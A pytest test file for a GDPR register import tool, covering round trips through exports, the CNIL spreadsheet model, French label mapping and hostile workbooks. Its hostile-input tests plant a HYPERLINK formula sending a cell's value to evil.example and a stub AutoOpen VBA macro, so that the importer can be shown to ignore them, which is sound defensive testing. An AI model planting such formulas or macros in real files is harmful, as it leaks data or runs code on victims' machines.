"""``ropa import``: round trips through ropa's own exports, the CNIL model (XLSX and ODS), the
mapping of French labels, and hostile workbooks. Real files and the real command throughout."""

from __future__ import annotations

import copy
import csv
import io
import json
import shutil
import subprocess
import sys
import time
import zipfile
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from cnil_model import FICHES, build
from conftest import REPO, Runner

from generator.importer import mapping
from generator.load.register import Register, read_register
from generator.render import i18n

# --- helpers -------------------------------------------------------------------------------------


def plain(value: Any) -> Any:
    """Data with every text's whitespace folded (an export puts a folded YAML text on one line)."""
    if isinstance(value, str):
        return " ".join(value.split())
    if isinstance(value, dict):
        return {k: plain(v) for k, v in value.items()}
    if isinstance(value, list):
        return [plain(v) for v in value]
    return value


def by_name(reg: Register) -> tuple[dict[str, Any], dict[str, Any], dict[str, Any]]:
    """(activities by ref, organisation without parties, parties by name), with party ids
    replaced by party names so that registers whose ids differ can be compared."""
    names = {p["id"]: p["name"] for p in reg.org.get("parties", [])}
    activities: dict[str, Any] = {}
    for raw in reg.activity_data():
        a = copy.deepcopy(raw)
        if "controller" in a:
            a["controller"] = names.get(a["controller"], a["controller"])
        for key in ("processors", "joint_controllers"):
            if key in a:  # a processor entry is a party id, or {party, contract, authorisation}
                a[key] = [{**x, "party": names.get(x["party"], x["party"])} if isinstance(x, dict)
                          else names.get(x, x) for x in a[key]]
        for r in a.get("recipients", []):
            if "party" in r:
                r["party"] = names.get(r["party"], r["party"])
        for t in a.get("transfers", []):
            if "recipient" in t:
                t["recipient"] = names.get(t["recipient"], t["recipient"])
        activities[a["ref"]] = plain(a)
    org = plain(copy.deepcopy(reg.org))
    parties = {p["name"]: p for p in org.pop("parties", [])}
    return activities, org, parties


# What cannot round-trip, per format (README, "Coming from a spreadsheet"): applied to the
# original before comparing, so that every other difference fails the test.
def lossy(fmt: str, activities: dict[str, Any], org: dict[str, Any], parties: dict[str, Any]) -> None:
    kinds = {name: p["kind"] for name, p in parties.items()}
    # every format: a contract is exported as one line « reference (date) », without its url
    for p in parties.values():
        if isinstance(p.get("contract"), dict):
            p["contract"].pop("url", None)
    for a in activities.values():
        for x in a.get("processors", []):
            if isinstance(x, dict) and isinstance(x.get("contract"), dict):
                x["contract"].pop("url", None)
    for a in activities.values():
        if fmt != "json":
            a.pop("process", None)  # no process model in the file: the key is left as a comment
            for r in a.get("recipients", []):
                # the files show a recipient's name, not the party it stands for: the link is found
                # again only when both names are the same, and (CSV) the party is in the file
                if r.get("party") != r.get("name") or (fmt == "csv" and kinds.get(r.get("party")) == "recipient"):
                    r.pop("party", None)
        if fmt != "json":
            # a processor's entry whose contract is its party's: the files give each processor one
            # contract line, the entry's or else the party's, so it reads as the party's
            if "processors" in a:
                a["processors"] = [
                    x["party"] if isinstance(x, dict) and set(x) == {"party", "contract"}
                    and x["contract"] == parties.get(x["party"], {}).get("contract") else x
                    for x in a["processors"]
                ]
            for t in a.get("transfers", []):
                # the CSV gives an adequacy coverage's reference, not its url nor its check date
                # (the workbook gives them in the safeguard cell)
                if fmt == "csv" and isinstance(t.get("adequacy_coverage"), dict):
                    for key in ("url", "checked"):
                        t["adequacy_coverage"].pop(key, None)
        if fmt == "xlsx":
            a.pop("id")  # the workbook has no ids: they are made from the names
            # a purpose given the activity's own basis, with no details: the workbook's table
            # gives every purpose its basis, and such a row says nothing more
            basis = a.get("legal_basis") or {}
            if "purposes" in basis:
                basis["purposes"] = [p for p in basis["purposes"]
                                     if set(p) - {"purpose", "basis"} or p.get("basis") != basis.get("basis")]
                if not basis["purposes"]:
                    del basis["purposes"]
        if fmt == "csv" and a.get("dpia", {}).get("criteria") == []:
            del a["dpia"]["criteria"]  # an empty cell: "none" and "not said" look the same
    if fmt == "csv":
        # the CSV names the organisation only by its contact line, the DPO and the DPO's company
        # by theirs; the parties by their contact line (those named in a sheet's actors only)
        for key in ("legal_form", "registration_number", "activity", "employees", "head", "review_interval"):
            org.pop(key, None)
        org["dpo"].pop("designation_date", None)
        org["dpo"].get("company", {}).pop("registration_number", None)
        for name in [n for n, p in parties.items() if p["kind"] == "recipient"]:
            del parties[name]
        for p in parties.values():
            for key in ("id", "description", "registration_number", "contract"):
                p.pop(key, None)
            p.get("contact", {}).pop("email", None)


@pytest.fixture(scope="module")
def exports(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    """CentreCall's register exported with the real ``ropa export``, once per format."""
    folder = tmp_path_factory.mktemp("exports")
    out = {}
    for fmt in ("xlsx", "csv", "json"):
        path = folder / f"registre.{fmt}"
        done = subprocess.run(
            [sys.executable, "-m", "generator", "export", "--format", fmt, "-o", str(path), "--root", str(REPO)],
            cwd=REPO, capture_output=True, text=True, timeout=120,
        )
        assert done.returncode == 0, done.stderr
        out[fmt] = path
    return out


def imported(ropa: Runner, source: Path, dest: Path, *args: str) -> subprocess.CompletedProcess[str]:
    dest.mkdir(parents=True, exist_ok=True)
    done = ropa("import", source, "--root", dest, *args)
    assert "Traceback" not in done.stderr, done.stderr
    return done


# --- round trips ---------------------------------------------------------------------------------


def compared(fmt: str, source: Path, dest: Path, done: subprocess.CompletedProcess[str]) -> tuple[Any, Any, set[str]]:
    """(original, imported) as ``by_name`` gives them, the original less what cannot round-trip
    (``lossy``), the imported less what the format makes up (XLSX activity ids; the CSV's head
    of the organisation, left to complete); and the party ids the CSV made from the names."""
    original = by_name(read_register(source))
    lossy(fmt, *original)
    again = by_name(read_register(dest))
    if fmt == "xlsx":
        for a in again[0].values():
            a.pop("id")
    made: set[str] = set()
    if fmt == "csv":
        # no head of the organisation in a CSV: left to complete, and reported
        assert again[1].pop("head") == {"last_name": "À COMPLÉTER"}
        assert "1 à compléter" in done.stdout
        made = {p.pop("id") for p in again[2].values()}
    return original, again, made


@pytest.mark.parametrize("fmt", ["xlsx", "csv", "json"])
def test_round_trip_through_each_export(fmt: str, exports: dict[str, Path], ropa: Runner, tmp_path: Path) -> None:
    done = imported(ropa, exports[fmt], tmp_path / "empty")
    assert done.returncode == 0, done.stderr
    assert "5 traitements importés" in done.stdout
    original, again, made = compared(fmt, REPO, tmp_path / "empty", done)
    if fmt == "csv":
        # ids made from the names: the same where the name gives the same id
        assert made == {"artemis", "paie-services", "voxcloud-inc"}
    assert again[0] == original[0]
    assert again[1] == original[1]
    assert again[2] == original[2]
    # the imported register is valid: same checks as ropa validate (the CSV's head is to complete)
    assert "ropa validate du registre importé : 0 erreur, 0 avertissement" in done.stdout or fmt == "csv"
    if fmt == "csv":
        assert "ropa validate du registre importé : 1 erreur, " in done.stdout
    else:
        check = ropa("validate", "--root", tmp_path / "empty")
        assert check.returncode == 0, check.stdout
    if fmt == "json":
        assert (tmp_path / "empty" / "processes" / "fidelisation.yaml").is_file()
        assert read_register(tmp_path / "empty").process_data() == read_register(REPO).process_data()


def test_a_workbook_with_a_caption_of_an_earlier_ropa_imports_the_same(exports: dict[str, Path], ropa: Runner, tmp_path: Path) -> None:
    """A workbook exported before a caption changed (« … (article 9(2)) », now « (article 9.2) »)
    imports as today's, the law of the Art. 9(2) condition kept: captions are compared folded,
    without their punctuation."""
    old = tmp_path / "ancien.xlsx"
    book = openpyxl.load_workbook(exports["xlsx"])
    now = i18n.t("export.fields.special_category_law", "fr")
    replaced = 0
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.value == now:
                    cell.value, replaced = "Droit de l'Union ou de l'État membre (article 9(2))", replaced + 1
    assert replaced
    book.save(old)
    done = imported(ropa, old, tmp_path / "empty")
    assert done.returncode == 0, done.stderr
    def laws(root: Path) -> list[str]:
        return sorted(str(a["legal_basis"]["special_category_law"]) for a in read_register(root).activity_data()
                      if "special_category_law" in a.get("legal_basis", {}))

    assert laws(tmp_path / "empty") == laws(REPO) != []


def more_fields(root: Path) -> Path:
    """CentreCall's register with the fields it does not use: the CNIL model's optional items,
    the scale and the decision on access,
    a final archiving, a period until an event, a purpose's balancing test, an entry's own
    contract, a specific authorisation, an entry of the CNIL's DPIA list, transfers under an
    Art. 49 derogation (the authority informed), to an international organisation and to a
    recipient covered by a partial adequacy decision."""
    import yaml

    shutil.copytree(REPO / "register", root / "register")
    shutil.copytree(REPO / "processes", root / "processes")

    def edit(name: str, change: Any) -> None:
        path = root / "register" / "activities" / f"{name}.yaml"
        data = yaml.safe_load(path.read_text(encoding="utf-8"))
        change(data)
        path.write_text(yaml.safe_dump(data, allow_unicode=True, sort_keys=False), encoding="utf-8")

    def payroll(a: dict[str, Any]) -> None:
        a["information"] = "Notice d'information remise à l'embauche ; rappel sur l'intranet RH."
        a["rights_exercise"] = "Demande au service RH ou à dpo@centrecall.example, réponse sous un mois."
        a["data_source"] = "Les salariés ; les organismes sociaux pour les attestations d'arrêt de travail."
        a["automated_decisions"] = {"exists": False}
        a["access_decision"] = {"exists": False, "details": "La paie ne décide d'aucun accès à un droit."}
        a["scale"] = {"data_subjects": 180, "large": False, "details": "Les salariés du site de Lyon"}
        a["legal_basis"]["purposes"].append({
            "purpose": a["purposes"]["sub"][-1], "basis": "legitimate_interests",
            "details": "Intérêt de l'employeur à piloter sa masse salariale.",
            "balancing_test": "Note d'évaluation LIA-2024-02 du 3 mars 2024"})
        a["data_categories"][1]["retention"] = {
            "duration": "P2Y", "starts": "le départ du salarié, puis la fin de ses recours",
            "until": "la liquidation de ses droits", "end_action": "final_archiving",
            "justification": "Exigence du service départemental d'archives."}

    def quality(a: dict[str, Any]) -> None:
        a["automated_decisions"] = {"exists": True, "details": "Notation automatique des appels — revue par un superviseur."}
        a["joint_controller_arrangement"] = "Accord du 1er mars 2022 avec le groupe, article 4."
        a["processors"] = [{"party": "voxcloud", "contract": {"reference": "Avenant qualité au contrat VoxCloud",
                                                                "date": "2022-03-01"}}]
        a["dpia"]["cnil_list"] = "constant_employee_monitoring"
        a["transfers"] += [
            {"recipient": "Cabinet d'avocats de Genève", "country": "CH", "safeguard": "derogation",
             "derogation": "compelling_legitimate_interests", "authority_informed": "2024-02-01",
             "documentation": "Note de transfert du 15 janvier 2024", "details": "Un enregistrement, pour un litige"},
            {"recipient": "Organisation mondiale de la santé", "international_organisation": "who",
             "safeguard": "derogation", "derogation": "public_interest"},
            {"recipient": "Hébergeur de sauvegarde", "country": "US", "safeguard": "adequacy",
             "adequacy_coverage": {"reference": "Certifiée DPF (données non RH)"}},
        ]

    def loyalty(a: dict[str, Any]) -> None:
        a["processors"][0]["authorisation"]["type"] = "specific"

    edit("gestion-personnel-paie", payroll)
    edit("enregistrement-qualite", quality)
    edit("fidelisation-artemis", loyalty)
    return root


@pytest.mark.parametrize(("fmt", "lang"), [("xlsx", "fr"), ("csv", "fr"), ("json", "fr"), ("xlsx", "en"), ("csv", "en")])
def test_round_trip_of_the_fields_centrecall_does_not_use(fmt: str, lang: str, ropa: Runner, tmp_path: Path) -> None:
    """In French and in English: the labels of either language are read back."""
    source = more_fields(tmp_path / "source")
    path = tmp_path / f"registre.{fmt}"
    made = ropa("export", "--format", fmt, "--lang", lang, "-o", path, "--root", source)
    assert made.returncode == 0, made.stderr
    done = imported(ropa, path, tmp_path / "empty")
    assert done.returncode == 0, done.stderr
    original, again, _ = compared(fmt, source, tmp_path / "empty", done)
    payroll = next(a for a in again[0].values() if a["ref"] == "RT-03")
    assert payroll["data_categories"][1]["retention"]["end_action"] == "final_archiving"
    assert again[0] == original[0]
    assert again[1] == original[1]
    assert again[2] == original[2]


ENGLISH_MARKS = ("site.transfers.coverage", "site.transfers.authority_informed", "site.transfers.authorisation",
                 "export.fields.balancing_test")


def test_an_english_workbook_has_english_colons_and_dates(ropa: Runner, tmp_path: Path) -> None:
    """The English workbook writes "Coverage: ", "Controller's authorisation: ", a contract's
    and the authority's dates in words ("1 March 2022"); the French one « Couverture : » and
    « (1er mars 2022) »."""
    source = more_fields(tmp_path / "source")
    texts = {}
    for lang in ("fr", "en"):
        path = tmp_path / f"registre-{lang}.xlsx"
        made = ropa("export", "--format", "xlsx", "--lang", lang, "-o", path, "--root", source)
        assert made.returncode == 0, made.stderr
        book = openpyxl.load_workbook(path, read_only=True)
        texts[lang] = "\n".join(str(v) for sheet in book.worksheets for row in sheet.iter_rows(values_only=True)
                                for v in row if isinstance(v, str))
    for key in ENGLISH_MARKS:
        assert f"{i18n.t(key, 'en')}: " in texts["en"] and f"{i18n.t(key, 'en')} :" not in texts["en"]
        assert f"{i18n.t(key, 'fr')} : " in texts["fr"]
    assert "Avenant qualité au contrat VoxCloud (1 March 2022)" in texts["en"]
    assert "Avenant qualité au contrat VoxCloud (1er mars 2022)" in texts["fr"]
    assert "Supervisory authority informed: 1 February 2024" in texts["en"]
    assert "Autorité de contrôle informée : 1er février 2024" in texts["fr"]
    assert "(2022-03-01)" not in texts["en"] + texts["fr"]


def test_an_english_workbook_of_an_earlier_ropa_imports_the_same(ropa: Runner, tmp_path: Path) -> None:
    """An English workbook written before December 2026 put the French « : » after its English
    labels ("Coverage : …", "Controller's authorisation : …") and ISO dates in its contracts and
    after "Supervisory authority informed": it imports as today's."""
    source = more_fields(tmp_path / "source")
    path = tmp_path / "registre.xlsx"
    made = ropa("export", "--format", "xlsx", "--lang", "en", "-o", path, "--root", source)
    assert made.returncode == 0, made.stderr
    informed = i18n.t("site.transfers.authority_informed", "en")
    old = {f"{i18n.t(key, 'en')}: ": f"{i18n.t(key, 'en')} : " for key in ENGLISH_MARKS if not key.endswith("informed")}
    old |= {"(1 March 2022)": "(2022-03-01)", f"{informed}: 1 February 2024": f"{informed} : 2024-02-01"}
    book = openpyxl.load_workbook(path)
    seen: set[str] = set()
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                for now, before in old.items():
                    if isinstance(cell.value, str) and now in cell.value:
                        cell.value = cell.value.replace(now, before)
                        seen.add(now)
    assert seen == set(old)
    book.save(path)
    done = imported(ropa, path, tmp_path / "empty")
    assert done.returncode == 0, done.stderr
    original, again, _ = compared("xlsx", source, tmp_path / "empty", done)
    assert again[0] == original[0]
    assert again[1] == original[1]
    assert again[2] == original[2]


@pytest.mark.parametrize("lang", ["fr", "en"])
def test_a_coverage_s_evidence_is_in_the_workbook_and_read_back(lang: str, ropa: Runner, tmp_path: Path) -> None:
    """The coverage of a partial adequacy decision carries, in the safeguard cell, the date it was
    checked and the address of its evidence, as the site gives the date (« (vérifiée le 1er
    février 2026, https://…) », "(checked on 1 February 2026, https://…)"); the import reads
    them back into ``adequacy_coverage``."""
    import yaml

    source = more_fields(tmp_path / "source")
    sheet = source / "register" / "activities" / "enregistrement-qualite.yaml"
    data = yaml.safe_load(sheet.read_text(encoding="utf-8"))
    covered = next(t for t in data["transfers"] if t.get("adequacy_coverage"))
    covered["adequacy_coverage"] |= {"url": "https://www.dataprivacyframework.gov/list", "checked": "2026-02-01"}
    sheet.write_text(yaml.safe_dump(data, allow_unicode=True, sort_keys=False), encoding="utf-8")
    path = tmp_path / "registre.xlsx"
    made = ropa("export", "--format", "xlsx", "--lang", lang, "-o", path, "--root", source)
    assert made.returncode == 0, made.stderr
    book = openpyxl.load_workbook(path, read_only=True)
    cells = [v for sheet in book.worksheets for row in sheet.iter_rows(values_only=True) for v in row if isinstance(v, str)]
    said = {"fr": "Couverture : Certifiée DPF (données non RH) (vérifiée le 1er février 2026, "
                  "https://www.dataprivacyframework.gov/list)",
            "en": "Coverage: Certifiée DPF (données non RH) (checked on 1 February 2026, "
                  "https://www.dataprivacyframework.gov/list)"}[lang]
    assert any(said in cell for cell in cells), [c for c in cells if "DPF" in c]
    done = imported(ropa, path, tmp_path / "empty")
    assert done.returncode == 0, done.stderr
    original, again, _ = compared("xlsx", source, tmp_path / "empty", done)
    assert again[0] == original[0]


def test_a_contract_s_date_in_words_is_read_back() -> None:
    from generator.importer.json_source import contract

    assert contract("DPA (1er mars 2022)") == contract("DPA (1 March 2022)") == contract("DPA (2022-03-01)") \
        == {"reference": "DPA", "date": "2022-03-01"}
    assert contract("Contrat (version signée)") == "Contrat (version signée)"
    assert mapping.date("31 février 2022") is None


def one_line_names(parties: dict[str, Any]) -> None:
    """A party's contact, DPO and representative are each given on one line, « Mme Prénom Nom,
    Fonction, … »: the last word is read as the last name (README, "Coming from a spreadsheet"),
    so only the whole name is compared."""
    for p in parties.values():
        for key in ("contact", "dpo", "representative"):
            who = p.get(key)
            if isinstance(who, dict) and "last_name" in who:
                who["name"] = " ".join(filter(None, [who.pop("first_name", None), who.pop("last_name")]))


@pytest.mark.parametrize("fmt", ["xlsx", "json"])
def test_round_trip_of_every_field_of_the_schemas(fmt: str, ropa: Runner, tmp_path: Path) -> None:
    """The export tests' register with every optional key filled: representative, external DPO,
    parties of every kind, partial adequacy and its coverage, DPIA list and exemption."""
    from export_registers import full_register

    source = full_register(tmp_path / "source")
    path = tmp_path / f"registre.{fmt}"
    made = ropa("export", "--format", fmt, "-o", path, "--root", source)
    assert made.returncode == 0, made.stderr
    done = imported(ropa, path, tmp_path / "empty")
    assert done.returncode == 0, done.stderr
    original, again, _ = compared(fmt, source, tmp_path / "empty", done)
    if fmt == "xlsx":
        one_line_names(original[2])
        one_line_names(again[2])
    assert again[0] == original[0]
    assert again[1] == original[1]
    assert again[2] == original[2]


def test_files_are_written_like_ropa_new(exports: dict[str, Path], ropa: Runner, tmp_path: Path) -> None:
    imported(ropa, exports["json"], tmp_path)
    text = (tmp_path / "register" / "activities" / "routage-appels-artemis.yaml").read_text(encoding="utf-8")
    lines = text.splitlines()
    assert lines[0] == "# yaml-language-server: $schema=../../schema/activity.schema.json"
    keys = [line.split(":")[0] for line in lines if line and line[0].isalpha()]
    assert keys[:8] == ["id", "ref", "name", "role", "created", "updated", "last_reviewed", "description"]
    assert keys.index("purposes") < keys.index("data_subjects") < keys.index("security_measures")
    org = (tmp_path / "register" / "organization.yaml").read_text(encoding="utf-8")
    assert org.startswith("# yaml-language-server: $schema=../schema/organization.schema.json\n")
    assert 'postal_code: "69003"' in org  # would be read as a number unquoted


def test_never_overwrites_and_dry_run_writes_nothing(exports: dict[str, Path], ropa: Runner, tmp_path: Path) -> None:
    dry = imported(ropa, exports["xlsx"], tmp_path, "--dry-run")
    assert dry.returncode == 0
    assert "rien n'a été écrit" in dry.stdout
    assert "ropa validate du registre importé : 0 erreur, 0 avertissement" in dry.stdout
    assert not (tmp_path / "register").exists()
    first = imported(ropa, exports["xlsx"], tmp_path)
    assert first.returncode == 0
    sheet = next((tmp_path / "register" / "activities").glob("*.yaml"))
    sheet.write_text(sheet.read_text(encoding="utf-8") + "# edited by the DPO\n", encoding="utf-8")
    before = {p: p.read_bytes() for p in (tmp_path / "register").rglob("*.yaml")}
    second = imported(ropa, exports["xlsx"], tmp_path)
    assert second.returncode == 0
    assert second.stdout.count("existe déjà, laissé tel quel") == 6
    assert {p: p.read_bytes() for p in (tmp_path / "register").rglob("*.yaml")} == before


# --- the CNIL model ------------------------------------------------------------------------------


def cnil_values(fiche: dict[str, Any]) -> list[str]:
    """Every free text the DPO wrote in a fiche (not the model's labels nor a duration)."""
    out = [fiche["name"], fiche["ref"], fiche["main"], *fiche["sub"]]
    for description, _ in [*fiche["categories"].values(), *fiche["sensitive"].values()]:
        out.append(description)
    out += [details for _, details in fiche["subjects"]]
    out += [details for _, details in fiche["recipients"]]
    out += [details for _, details in fiche["security"]]
    out += [t[0] for t in fiche["transfers"]] + [t[3] for t in fiche["transfers"]]
    return out


def strings(value: Any) -> list[str]:
    if isinstance(value, str):
        return [value]
    if isinstance(value, dict):
        return [s for v in value.values() for s in strings(v)]
    if isinstance(value, list):
        return [s for v in value for s in strings(v)]
    return []


def check_town_hall(root: Path) -> None:
    reg = read_register(root)
    activities = {a["ref"]: a for a in reg.activity_data()}
    assert sorted(activities) == ["CS-02", "EC-01", "NL-03"]  # not the example nor the blank model
    for fiche in FICHES:
        found = strings(activities[fiche["ref"]])
        for value in cnil_values(fiche):
            assert value in found, (fiche["ref"], value)
    canteen = activities["CS-02"]
    assert canteen["created"] == "2019-09-01" and canteen["updated"] == "2025-08-20"
    assert canteen["purposes"] == {
        "main": "Gestion des inscriptions à la cantine et facturation des repas",
        "sub": ["Inscription des élèves", "Facturation aux familles", "Prise en compte des régimes médicaux"],
    }
    assert [c["category"] for c in canteen["data_categories"]] == ["identity", "economic_financial"]
    assert canteen["data_categories"][0]["retention"]["duration"] == "P1Y"
    assert canteen["data_categories"][1]["retention"] == {
        "duration": "P6Y", "starts": "le dernier paiement", "end_action": "À COMPLÉTER"}
    assert canteen["sensitive_data"][0]["category"] == "health"
    assert canteen["sensitive_data"][0]["retention"]["duration"] == "P6M"
    assert canteen["data_subjects"] == [
        {"category": "other", "description": "Élèves inscrits à la cantine et leurs parents"}]
    assert [r["type"] for r in canteen["recipients"]] == [
        "internal_service", "processor", "À COMPLÉTER : Trésor public"]  # « Sous-traitant » → processor
    assert [m["type"] for m in canteen["security_measures"]] == ["access_control", "encryption"]
    civil = activities["EC-01"]
    assert civil["data_categories"][0]["retention"] == {
        "duration": "P75Y", "starts": "la clôture du registre", "end_action": "archiving"}
    assert civil["data_categories"][1]["retention"]["starts"] == "la clôture du registre"
    assert [s["category"] for s in civil["data_subjects"]] == ["other", "employees"]
    assert [r["type"] for r in civil["recipients"]] == ["internal_service", "partner"]
    newsletter = activities["NL-03"]
    assert newsletter["transfers"] == [{
        "recipient": "Routeur de courriels", "country": "US", "safeguard": "scc",
        "documentation": "https://saint-exemple.example/rgpd/cct-routeur.pdf"}]
    assert newsletter["data_categories"][1]["retention"]["duration"] == "P13M"
    org = reg.org
    assert org["name"] == "Mairie de Saint-Exemple"
    assert org["address"] == {"street": "1 place de la Mairie", "postal_code": "12345", "city": "Saint-Exemple",
                              "country": "FR"}
    assert org["head"] == {"first_name": "Sophie", "last_name": "Martin", "email": "maire@saint-exemple.example",
                           "phone": "05 00 00 00 01"}
    assert org["dpo"]["person"]["last_name"] == "Dupuis"
    assert org["dpo"]["company"]["name"] == "Centre de gestion de la fonction publique territoriale"


def test_cnil_model_workbook(ropa: Runner, tmp_path: Path) -> None:
    source = build(tmp_path / "registre-mairie.xlsx")
    done = imported(ropa, source, tmp_path / "mairie")
    assert done.returncode == 0, done.stderr
    check_town_hall(tmp_path / "mairie")
    assert "« Tutoriel »" in done.stderr and "« 4 - Exemple de fiche »" in done.stderr
    assert "modèle vierge" in done.stderr
    # what was left to complete is reported by ropa validate, line by line
    text = (tmp_path / "mairie" / "register" / "activities" / "inscription-et-facturation-de-la-cantine.yaml")
    body = text.read_text(encoding="utf-8")
    assert '  - type: "À COMPLÉTER : Trésor public"' in body
    assert "cellule B54" in body  # the comment says where the value came from
    check = ropa("validate", "--root", tmp_path / "mairie")
    assert check.returncode == 1
    placeholder_lines = [line for line in check.stdout.splitlines() if line.endswith("[placeholder]")]
    assert any("cantine.yaml" in line and "recipients[2].type" in line for line in placeholder_lines)
    assert "ropa validate du registre importé : " in done.stdout


def test_a_fiche_named_like_a_help_tab_is_imported(ropa: Runner, tmp_path: Path) -> None:
    """The CNIL model's help tabs are skipped by their whole name (« Tutoriel », « 5 - Listes »,
    « 4 - Exemple de fiche »): a town hall's « Listes électorales » or « CCAS aides sociales »
    is a sheet of its own, imported (they were skipped as help sheets, one of them with its
    health data)."""
    named = ["Listes électorales", "CCAS aides sociales", "Aide aux devoirs"]
    source = build(tmp_path / "registre-mairie.xlsx", [dict(f, sheet=name) for f, name in zip(FICHES, named, strict=True)])
    done = imported(ropa, source, tmp_path / "mairie")
    assert done.returncode == 0, done.stderr
    check_town_hall(tmp_path / "mairie")
    for name in named:
        assert f"« {name} »" not in done.stderr, done.stderr
    for help_tab in ("Tutoriel", "4 - Exemple de fiche", "5 - Listes"):
        assert f"« {help_tab} »" in done.stderr, done.stderr


def test_cnil_model_with_headers_on_the_section_rows(ropa: Runner, tmp_path: Path) -> None:
    source = build(tmp_path / "registre-mairie.xlsx", titled=True)
    done = imported(ropa, source, tmp_path / "mairie")
    assert done.returncode == 0, done.stderr
    check_town_hall(tmp_path / "mairie")


@pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice (soffice) is not installed")
def test_cnil_model_as_ods_made_by_libreoffice(ropa: Runner, tmp_path: Path) -> None:
    source = build(tmp_path / "registre-mairie.xlsx")
    wb = openpyxl.load_workbook(source)
    wb["Fiche EC-01"]["H2"] = "=LEN(B4)*2"  # LibreOffice keeps it as an ODS formula
    wb.save(source)
    made = subprocess.run(
        ["soffice", "--headless", f"-env:UserInstallation=file://{tmp_path}/lo-profile", "--convert-to", "ods",
         "--outdir", str(tmp_path), str(source)],
        capture_output=True, text=True, timeout=180,
    )
    ods = tmp_path / "registre-mairie.ods"
    assert ods.is_file(), made.stderr
    done = imported(ropa, ods, tmp_path / "mairie")
    assert done.returncode == 0, done.stderr
    check_town_hall(tmp_path / "mairie")
    assert "registre-mairie.ods, feuille « Fiche EC-01 », cellule H2 : formule ni calculée ni reprise" in done.stderr
    # nor is its value (LEN of the name, 35, times 2) that LibreOffice computed and cached
    assert "70" not in strings(read_register(tmp_path / "mairie").activity_data())


# --- mapping -------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("vocabulary", "text", "code"),
    [
        ("recipient_type", "sous-traitant", "processor"),
        ("recipient_type", "SOUS-TRAITANTS", "processor"),
        ("security_measure", "Contrôle d'accès des utilisateurs", "access_control"),
        ("security_measure", "controle d'acces des  utilisateurs", "access_control"),
        ("data_category", "État civil, identité, données d'identification, images…", "identity"),
        ("data_subject", "Autres (préciser)", "other"),
        ("safeguard", "Clauses contractuelles types (CCT)", "scc"),
        ("legal_basis", "Intérêt légitime", "legitimate_interests"),
    ],
)
def test_labels_map_to_codes(vocabulary: str, text: str, code: str) -> None:
    found = mapping.match(vocabulary, text)
    assert found is not None and found.code == code


@pytest.mark.parametrize(
    ("text", "duration", "starts", "end"),
    [
        ("1 an", "P1Y", None, None),
        ("6 mois", "P6M", None, None),
        ("5 ans après le départ", "P5Y", "le départ", None),
        ("1 an et 6 mois à compter du dernier contact, puis suppression", "P1Y6M", "le dernier contact", "deletion"),
        ("trois ans à compter de la fin du contrat, puis archivage intermédiaire", "P3Y", "la fin du contrat",
         "archiving"),
    ],
)
def test_retention_texts(text: str, duration: str, starts: str | None, end: str | None) -> None:
    found = mapping.retention(text)
    assert (found.duration, found.starts, found.end_action) == (duration, starts, end)


@pytest.mark.parametrize(("text", "until", "end"), [
    ("jusqu'à la fin de l'inscription", "la fin de l'inscription", None),
    ("Jusqu'au désabonnement", "le désabonnement", None),
    ("jusqu’aux élections suivantes, puis suppression", "les élections suivantes", "deletion"),
    ("until unsubscription", "unsubscription", None),
])
def test_retention_until_an_event(text: str, until: str, end: str | None) -> None:
    """A period with no fixed term, as a DPO writes it: the event that ends it (``until``)."""
    found = mapping.retention(text)
    assert (found.duration, found.until, found.end_action) == (None, until, end)


def test_unknown_values_are_not_guessed() -> None:
    assert mapping.match("recipient_type", "Trésor public") is None
    assert mapping.retention("durée de l'abonnement").duration is None


# --- hostile input -------------------------------------------------------------------------------


def no_traceback(done: subprocess.CompletedProcess[str]) -> None:
    assert "Traceback" not in done.stderr + done.stdout
    assert "internal error" not in done.stderr and "erreur interne" not in done.stderr


def test_hostile_workbook(ropa: Runner, tmp_path: Path) -> None:
    """Formulas, merged cells, a hidden sheet, a 50,000-row sheet, a 31-character odd name."""
    source = build(tmp_path / "hostile.xlsx", FICHES[:1])
    wb = openpyxl.load_workbook(source)
    fiche = wb["Fiche EC-01"]
    fiche["B19"] = '=HYPERLINK("http://evil.example/?"&B4,"clic")'  # the first sub-purpose, as a formula
    fiche.merge_cells("B4:H4")
    hidden = wb.copy_worksheet(fiche)
    hidden.title = "Fiche cachée"
    hidden["B4"] = "Traitement caché"
    hidden["B5"] = "HID-1"
    hidden.sheet_state = "hidden"
    odd = wb.copy_worksheet(fiche)
    odd.title = "Fiche « été » n°2 ✓ — l'ÉCOLE !"[:31]
    odd["B4"] = "Accueil périscolaire"
    odd["B5"] = "PE-02"
    odd["B18"] = "Accueil des enfants avant et après la classe"
    big = wb.create_sheet("Export brut")
    for n in range(50_000):
        big.append([n, f"ligne {n}", "=A1*2"])
    wb.save(source)
    started = time.monotonic()
    done = imported(ropa, source, tmp_path / "out")
    elapsed = time.monotonic() - started
    no_traceback(done)
    assert done.returncode == 0, done.stderr
    assert elapsed < 90, elapsed
    err = done.stderr
    assert "feuille « Fiche EC-01 », cellule B19 : formule ni calculée ni reprise" in err
    assert "feuille « Fiche cachée » : feuille masquée" in err
    assert "feuille « Export brut » : feuille qui n'est ni une liste des traitements ni une fiche" in err
    reg = read_register(tmp_path / "out")
    names = sorted(a["name"] for a in reg.activity_data())
    assert names == ["Accueil périscolaire", "Tenue des registres de l'état civil"]
    civil = next(a for a in reg.activity_data() if a["ref"] == "EC-01")
    # the formula is neither kept nor computed: the cell reads as empty
    assert civil["purposes"]["sub"] == ["Délivrance des copies et extraits d'actes"]
    everything = json.dumps(reg.activity_data(), ensure_ascii=False)
    assert "HYPERLINK" not in everything and "=" not in everything.replace("https://", "")
    sheet = next((tmp_path / "out" / "register" / "activities").glob("accueil*.yaml")).read_text(encoding="utf-8")
    assert "« Fiche « été » n°2 ✓ — l'ÉCOLE " in sheet


def test_macro_enabled_workbook(ropa: Runner, tmp_path: Path) -> None:
    plain_book = build(tmp_path / "registre.xlsx", FICHES[:1])
    macro = tmp_path / "registre.xlsm"
    with zipfile.ZipFile(plain_book) as src, zipfile.ZipFile(macro, "w") as dst:
        for item in src.infolist():
            dst.writestr(item, src.read(item.filename))
        dst.writestr("xl/vbaProject.bin", b"Attribute VB_Name = \"Module1\"\nSub AutoOpen(): Shell \"calc\": End Sub")
    done = imported(ropa, macro, tmp_path / "out")
    no_traceback(done)
    assert done.returncode == 0
